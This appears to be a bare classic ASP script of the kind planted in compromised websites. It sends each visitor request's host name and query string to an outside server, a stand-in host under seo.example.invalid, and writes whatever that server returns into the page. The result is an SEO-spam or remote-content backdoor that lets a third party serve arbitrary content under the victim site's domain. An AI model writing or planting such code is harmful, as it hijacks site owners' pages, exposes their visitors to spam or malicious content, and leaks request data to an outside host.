<%
target = "http://seo.example.invalid/feed/"
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", target & "?h=" & Request.ServerVariables("HTTP_HOST") & "&q=" & Request.ServerVariables("QUERY_STRING"), False
h.Send
Response.BinaryWrite h.ResponseBody
%>
